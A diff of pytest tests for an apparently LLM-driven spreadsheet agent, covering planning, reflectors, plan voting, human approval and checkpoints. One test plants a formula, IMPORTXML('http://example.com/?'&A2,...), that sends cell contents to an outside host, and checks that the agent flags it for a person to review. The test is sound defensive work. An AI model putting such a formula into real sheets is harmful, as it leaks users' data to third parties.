@@ -12,7 +12,6 @@ import openpyxl
 import pytest
 from protocol_server import ProtocolServer
 from scenario import (
-    ALL_REFLECTORS,
     HEADER,
     OPENINGS,
     OVERWRITING,
@@ -92,7 +91,7 @@ def test_the_plan_comes_back_to_the_executor_as_its_own_tool_calls(scripted: Pro
 
 
 def test_a_dry_run_shows_the_difference_and_writes_nothing(scripted: ProtocolServer, sales: Path) -> None:
-    scripted.script(describes(), plans(*STEPS), *keeps(*ALL_REFLECTORS))
+    scripted.script(describes(), plans(*STEPS))
     result = agent().run(str(sales), TASK, dry_run=True)
     assert result.status is Status.DRY_RUN
     assert result.usage.api_writes == 0
@@ -102,7 +101,9 @@ def test_a_dry_run_shows_the_difference_and_writes_nothing(scripted: ProtocolSer
     assert (change.before, change.after, change.result, change.count) == ("", "=C2*D2", "40; 100; 180; 280 … 1800", 12)
 
 
-def test_a_mistake_found_in_the_trial_is_mended_by_the_formula_reflector(scripted: ProtocolServer, sales: Path) -> None:
+def test_all_reflectors_look_when_told_to_and_the_formula_reflector_mends_a_formula(
+    scripted: ProtocolServer, sales: Path
+) -> None:
     wrong = {**REVENUE, "options": ["formula==SUMM(C2*D2)"]}
     scripted.script(
         describes(),
@@ -112,13 +113,52 @@ def test_a_mistake_found_in_the_trial_is_mended_by_the_formula_reflector(scripte
         *keeps("general"),
         sums_up(),
     )
-    result = agent().run(str(sales), TASK)
+    result = agent(reflect="always").run(str(sales), TASK)
     assert result.status is Status.DONE
     (critique,) = (found for found in result.critiques if found.reflector == "formula")
     assert critique.changed == (1,)
     assert {fact.kind for fact in critique.facts} >= {"unknown_function", "error_value"}
     assert any("SUMM" in str(request.body) and "SUM" in str(request.body) for request in scripted.chats)
     assert result.facts == ()
+
+
+def test_a_mistake_is_mended_by_the_one_reflector_the_facts_call_for(scripted: ProtocolServer, sales: Path) -> None:
+    wrong = {**REVENUE, "options": ["formula==SUMM(C2*D2)"]}
+    mended = says("formula", json={"comment": "SUMM нет.", "verdict": "revise", "steps": [HEADER, REVENUE]})
+    scripted.script(describes(), plans(HEADER, wrong), mended, sums_up())
+    result = agent(reflect="auto").run(str(sales), "Добавь столбец выручки")
+    assert result.status is Status.DONE
+    assert [critique.reflector for critique in result.critiques] == ["formula"]
+    assert cells(result.files[0], "Продажи")["E2"] == 40
+
+
+def test_a_clean_plan_costs_three_calls(scripted: ProtocolServer, sales: Path) -> None:
+    scripted.script(*good_run())
+    result = agent(reflect="auto").run(str(sales), TASK)
+    assert result.status is Status.DONE
+    assert {role: usage.calls for role, usage in result.usage.roles.items()} == {
+        "retriever": 1,
+        "planner": 1,
+        "executor": 1,
+    }
+
+
+def test_after_a_plan_that_fails_alternatives_are_drawn_and_chosen_by_what_they_do(
+    scripted: ProtocolServer, sales: Path
+) -> None:
+    wrong = {**REVENUE, "options": ["formula==FOO(C2)"]}
+    scripted.script(
+        describes(),
+        plans(HEADER, wrong),
+        plans(HEADER, wrong),
+        plans(HEADER, REVENUE),
+        plans(HEADER, REVENUE),
+        sums_up(),
+    )
+    result = agent(max_rounds=1).run(str(sales), TASK)
+    assert result.status is Status.DONE
+    assert result.usage.roles["planner"].calls == 4
+    assert cells(result.files[0], "Продажи")["E2"] == 40
 
 
 def test_a_specialised_reflector_cannot_change_what_is_not_its_own(scripted: ProtocolServer, sales: Path) -> None:
@@ -131,7 +171,7 @@ def test_a_specialised_reflector_cannot_change_what_is_not_its_own(scripted: Pro
         *keeps("general"),
         sums_up(),
     )
-    result = agent().run(str(sales), TASK)
+    result = agent(reflect="always").run(str(sales), TASK)
     (critique,) = (found for found in result.critiques if found.reflector == "formula")
     assert critique.dropped
     assert cells(result.files[0], "Продажи")["A2"] == "Север"
@@ -142,9 +182,9 @@ def test_a_plan_whose_trial_keeps_failing_is_made_again_and_then_given_up_unwrit
     scripted: ProtocolServer, sales: Path, dry_run: bool
 ) -> None:
     wrong = {**REVENUE, "options": ["formula==FOO(C2)"]}
-    rounds = [reply for _ in range(3) for reply in (plans(HEADER, wrong), *keeps(*ALL_REFLECTORS))]
+    rounds = [plans(HEADER, wrong)] * 3
     scripted.script(describes(), *rounds)
-    result = agent(max_rounds=2).run(str(sales), TASK, dry_run=dry_run)
+    result = agent(planner="cot", max_rounds=2).run(str(sales), TASK, dry_run=dry_run)
     assert result.status is Status.INCOMPLETE
     assert "FOO" in result.summary
     assert result.usage.api_writes == 0
@@ -160,7 +200,6 @@ def test_the_executor_reads_cells_and_calls_further_tools(model: tuple[str, Prot
     server.script(
         describes(),
         plans(HEADER, REVENUE),
-        *keeps(*ALL_REFLECTORS),
         says("executor", calls=[("read_range", {"source": "'Продажи'!E1:E3"})]),
         says("executor", calls=[("format_cells", {"target": "'Продажи'!E1", "style": ["bold"]})]),
         sums_up("Оформлено."),
@@ -177,7 +216,6 @@ def test_a_large_read_is_cut_and_says_so(scripted: ProtocolServer, sales: Path) 
     scripted.script(
         describes(),
         plans(HEADER),
-        *keeps(*ALL_REFLECTORS),
         says("executor", calls=[("read_range", {"source": "'Продажи'"})]),
         sums_up(),
     )
@@ -192,7 +230,6 @@ def test_a_tool_call_that_would_overwrite_unapproved_cells_is_refused(scripted: 
     scripted.script(
         describes(),
         plans(HEADER, REVENUE),
-        *keeps(*ALL_REFLECTORS),
         says("executor", calls=[("write_cell", {"target": "'Продажи'!A1", "value": "Область"})]),
         says("executor", calls=[("write_cell", {"target": "'Нет'!A1", "value": "x"})]),
         sums_up(),
@@ -206,7 +243,7 @@ def test_a_tool_call_that_would_overwrite_unapproved_cells_is_refused(scripted: 
 
 def test_an_endless_loop_of_calls_is_stopped(scripted: ProtocolServer, sales: Path) -> None:
     loop = says("executor", calls=[("read_range", {"source": "'Продажи'!A1:A2"})])
-    scripted.script(describes(), plans(HEADER, REVENUE), *keeps(*ALL_REFLECTORS), *[loop] * 20)
+    scripted.script(describes(), plans(HEADER, REVENUE), *[loop] * 20)
     result = agent(max_tool_calls=8).run(str(sales), TASK)
     assert "stopped" in result.summary
     assert scripted.left > 10
@@ -218,10 +255,8 @@ def test_errors_that_show_after_writing_are_corrected(scripted: ProtocolServer, 
     scripted.script(
         describes(),
         plans(RATIO),
-        *keeps(*ALL_REFLECTORS),
         says("executor", text="Готово."),
         says("corrector", json={"thoughts": "Деление на ноль.", "steps": [mended]}),
-        *keeps(*ALL_REFLECTORS),
         sums_up("Исправлено."),
     )
     result = with_a_colleague(sales, clears("'Продажи'!C5"))
@@ -231,19 +266,22 @@ def test_errors_that_show_after_writing_are_corrected(scripted: ProtocolServer, 
     assert cells(result.files[0], "Продажи")["F5"] == 0
 
 
-def test_several_samples_are_put_to_a_vote(scripted: ProtocolServer, sales: Path) -> None:
-    scripted.script(
-        describes(),
-        plans(HEADER),
-        plans(HEADER, REVENUE),
-        plans(HEADER, REVENUE),
-        says("voter", json={"reason": "Второй полнее.", "choice": 2}),
-        *keeps(*ALL_REFLECTORS),
-        sums_up(),
-    )
-    result = agent(plan_samples=3).run(str(sales), TASK)
-    assert result.plan is not None
-    assert len(result.plan.steps) in (1, 2)
+WORDED_OTHERWISE = {"why": "То же", "action": "write_table", "target": "'Продажи'!E1", "values": [["Выручка"]]}
+
+
+def test_samples_are_voted_on_by_what_they_do_without_a_model(scripted: ProtocolServer, sales: Path) -> None:
+    elsewhere = {**HEADER, "target": "'Продажи'!G1"}
+    scripted.script(describes(), plans(elsewhere), plans(HEADER), plans(WORDED_OTHERWISE), sums_up())
+    result = agent(planner="self-consistency").run(str(sales), "Добавь заголовок")
+    assert cells(result.files[0], "Продажи")["E1"] == "Выручка"
+    assert "voter" not in result.usage.roles
+
+
+def test_a_model_breaks_a_tie(scripted: ProtocolServer, sales: Path) -> None:
+    elsewhere = {**HEADER, "target": "'Продажи'!G1"}
+    choice = says("voter", json={"reason": "Рядом с таблицей.", "choice": 2})
+    scripted.script(describes(), plans(elsewhere), plans(HEADER), choice, sums_up())
+    agent(planner="self-consistency", search={"samples": 2}).run(str(sales), "Добавь заголовок")
     ballot = next(request.text for request in scripted.chats if re.search(OPENINGS["voter"], request.text))
     assert "Plan 2" in ballot
     assert "Plan 3" not in ballot
@@ -251,13 +289,13 @@ def test_several_samples_are_put_to_a_vote(scripted: ProtocolServer, sales: Path
 
 def test_reflectors_can_be_switched_off(scripted: ProtocolServer, sales: Path) -> None:
     scripted.script(describes(), plans(HEADER, REVENUE), *keeps("formula"), sums_up())
-    result = agent(reflectors=("formula",)).run(str(sales), TASK)
+    result = agent(reflect="always", reflectors=("formula",)).run(str(sales), TASK)
     assert [critique.reflector for critique in result.critiques] == ["formula"]
 
 
 class TestAskingAPerson:
     def test_overwriting_is_shown_and_approved(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes(), plans(OVERWRITING), *keeps(*ALL_REFLECTORS), sums_up())
+        scripted.script(describes(), plans(OVERWRITING), sums_up())
         person = Person(Decision(verdict="approve"))
         result = agent(person).run(str(sales), TASK)
         (review,) = person.reviews
@@ -266,7 +304,7 @@ class TestAskingAPerson:
         assert cells(result.files[0], "Продажи")["A1"] == "Выручка"
 
     def test_a_rejected_plan_writes_nothing(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes(), plans(OVERWRITING), *keeps(*ALL_REFLECTORS))
+        scripted.script(describes(), plans(OVERWRITING))
         result = agent(Person(Decision(verdict="reject"))).run(str(sales), TASK)
         assert result.status is Status.REJECTED
         assert (result.usage.api_writes, result.files) == (0, ())
@@ -275,9 +313,7 @@ class TestAskingAPerson:
         scripted.script(
             describes(),
             plans(OVERWRITING),
-            *keeps(*ALL_REFLECTORS),
             plans(HEADER),
-            *keeps(*ALL_REFLECTORS),
             sums_up(),
         )
         result = agent(Person(Decision(verdict="reject", comment="Не трогай A1"))).run(str(sales), TASK)
@@ -288,14 +324,14 @@ class TestAskingAPerson:
     def test_an_edited_plan_is_tried_anew_and_written(self, scripted: ProtocolServer, sales: Path) -> None:
         from sheets_agent.planners.draft import read_plan
 
-        scripted.script(describes(), plans(OVERWRITING), *keeps(*ALL_REFLECTORS * 2), sums_up())
+        scripted.script(describes(), plans(OVERWRITING), sums_up())
         edited = Decision(verdict="edit", plan=read_plan({"steps": [HEADER]}))
         result = agent(Person(edited)).run(str(sales), TASK)
         written = cells(result.files[0], "Продажи")
         assert (written["A1"], written["E1"]) == ("Регион", "Выручка")
 
     def test_without_a_person_the_run_pauses_and_resumes(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes("Что такое Цена?"), plans(OVERWRITING), *keeps(*ALL_REFLECTORS), sums_up())
+        scripted.script(describes("Что такое Цена?"), plans(OVERWRITING), sums_up())
         worker = agent()
         asked = worker.run(str(sales), TASK)
         assert asked.status is Status.PAUSED
@@ -314,13 +350,13 @@ class TestAskingAPerson:
 
     def test_a_formula_that_reaches_outside_is_asked_about(self, scripted: ProtocolServer, sales: Path) -> None:
         leak = {**HEADER, "options": ['value==IMPORTXML("http://example.com/?"&A2,"//a")']}
-        scripted.script(describes(), plans(leak), *keeps(*ALL_REFLECTORS))
+        scripted.script(describes(), plans(leak))
         person = Person(Decision(verdict="reject"))
         assert agent(person).run(str(sales), TASK).status is Status.REJECTED
         assert "IMPORTXML reaches outside" in person.reviews[0].reasons[0]
 
     def test_a_paused_run_goes_on_in_another_process(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes(), plans(OVERWRITING), *keeps(*ALL_REFLECTORS), sums_up())
+        scripted.script(describes(), plans(OVERWRITING), sums_up())
         paused = agent().run(str(sales), TASK)
         done = agent().resume(paused.run_id, {"decisions": [{"type": "approve"}]})  # another agent: nothing is shared
         assert done.status is Status.DONE
@@ -328,16 +364,16 @@ class TestAskingAPerson:
         assert sum(bool(re.search(OPENINGS["planner"], request.text)) for request in scripted.chats) == 1
 
     def test_the_policies(self, scripted: ProtocolServer, sales: Path) -> None:
-        scripted.script(describes(), plans(HEADER), *keeps(*ALL_REFLECTORS))
+        scripted.script(describes(), plans(HEADER))
         assert agent(approve="always").run(str(sales), TASK).status is Status.PAUSED
-        scripted.script(describes(), plans(OVERWRITING), *keeps(*ALL_REFLECTORS), sums_up())
+        scripted.script(describes(), plans(OVERWRITING), sums_up())
         assert agent(approve="never").run(str(sales), TASK).status is Status.DONE
 
 
 class TestModelsThatMisbehave:
     def test_an_unknown_action_goes_back_with_the_closest_names(self, scripted: ProtocolServer, sales: Path) -> None:
         unknown = {**HEADER, "action": "write_cells"}
-        scripted.script(describes(), plans(unknown), plans(HEADER), *keeps(*ALL_REFLECTORS), sums_up())
+        scripted.script(describes(), plans(unknown), plans(HEADER), sums_up())
         assert agent().run(str(sales), TASK).status is Status.DONE
         assert "write_cell" in str(scripted.chats[2].body["messages"][-1])
 
@@ -377,7 +413,7 @@ def test_an_empty_spreadsheet_is_a_normal_case(scripted: ProtocolServer, tmp_pat
         "target": "Sheet!A1",
         "values": [["Месяц", "План"], ["Май", "5"]],
     }
-    scripted.script(plans(table), *keeps(*ALL_REFLECTORS), sums_up())
+    scripted.script(plans(table), sums_up())
     result = agent().run(str(empty), "Создай таблицу плана")
     assert cells(result.files[0], "Sheet") == {"A1": "Месяц", "B1": "План", "A2": "Май", "B2": 5}
 
@@ -391,7 +427,7 @@ def test_stream_gives_events_and_the_result_last(scripted: ProtocolServer, sales
 
 
 def test_plan_and_describe_write_nothing(scripted: ProtocolServer, sales: Path) -> None:
-    scripted.script(describes(), plans(*STEPS), *keeps(*ALL_REFLECTORS))
+    scripted.script(describes(), plans(*STEPS))
     planned = agent().plan(str(sales), TASK)
     assert planned.plan is not None
     assert planned.plan.steps[3].action.kind == PIVOT["action"]
@@ -406,7 +442,7 @@ def test_plan_and_describe_write_nothing(scripted: ProtocolServer, sales: Path) 
 
 
 def test_a_plan_that_only_adds_a_sheet_is_saved(scripted: ProtocolServer, sales: Path) -> None:
-    scripted.script(describes(), plans(STEPS[2]), *keeps(*ALL_REFLECTORS), sums_up())
+    scripted.script(describes(), plans(STEPS[2]), sums_up())
     result = agent().run(str(sales), "Добавь лист")
     assert openpyxl.load_workbook(result.files[0]).sheetnames == ["Продажи", "Отчёт"]
 
@@ -436,14 +472,14 @@ def test_a_notebook_shows_the_tables_and_the_chart(scripted: ProtocolServer, sal
     assert picture.read_bytes().startswith(b"\x89PNG")
 
 
-def test_checkpoints_hold_our_own_models_only_and_are_gone_at_the_end(
+def test_checkpoints_hold_our_own_models_only_and_nothing_of_the_cells_at_the_end(
     scripted: ProtocolServer, sales: Path, caplog: pytest.LogCaptureFixture
 ) -> None:
     import sqlite3
 
     from sheets_agent.checkpoints import data_dir
 
-    scripted.script(describes(), plans(OVERWRITING, REVENUE), *keeps(*ALL_REFLECTORS), sums_up())
+    scripted.script(describes(), plans(OVERWRITING, REVENUE), sums_up())
     worker = agent()
     paused = worker.run(str(sales), TASK)
     store = data_dir() / "runs.sqlite"
@@ -451,8 +487,10 @@ def test_checkpoints_hold_our_own_models_only_and_are_gone_at_the_end(
     assert worker.resume(paused.run_id, {"decisions": [{"type": "approve"}]}).status is Status.DONE
     assert [record.message for record in caplog.records if "serialize" in record.message] == []
     connection = sqlite3.connect(store)
-    assert connection.execute("select count(*) from checkpoints").fetchone() == (0,)
+    kept = b"".join(bytes(row[0]) for row in connection.execute("select checkpoint from checkpoints"))
     connection.close()
+    assert "Сводная" not in kept.decode(errors="ignore")
+    assert "Запад" not in kept.decode(errors="ignore"), "only the memory of the thread stays, not what cells hold"
 
 
 @pytest.mark.parametrize("how", ["run", "plan"])
@@ -463,7 +501,7 @@ def test_the_tab_that_a_link_leads_to_is_told_to_the_planner(openai_server: Prot
     emulator = Emulator()
     book = emulator.create("Live", "en_US", "Etc/GMT")
     with serve(emulator, 0) as server:
-        openai_server.script(describes(), plans(HEADER | {"target": "Sheet1!A1"}), *keeps(*ALL_REFLECTORS), sums_up())
+        openai_server.script(describes(), plans(HEADER | {"target": "Sheet1!A1"}), sums_up())
         url = f"https://docs.google.com/spreadsheets/d/{book.spreadsheet_id}/edit#gid=0"
         result = getattr(agent(api_endpoint=server.url), how)(url, TASK)
     assert result.status is (Status.DONE if how == "run" else Status.DRY_RUN)
@@ -495,7 +533,7 @@ def test_what_changed_while_a_person_thought_is_shown_before_it_is_written(opena
             return super().review(review)
 
     title = {**HEADER, "target": "Sheet1!A1"}
-    openai_server.script(describes(), plans(title), *keeps(*ALL_REFLECTORS * 2), sums_up())
+    openai_server.script(describes(), plans(title), sums_up())
     person = Slow(Decision(verdict="approve"), Decision(verdict="approve"))
     with serve(emulator, 0) as server:
         result = agent(person, api_endpoint=server.url).run(book, TASK)
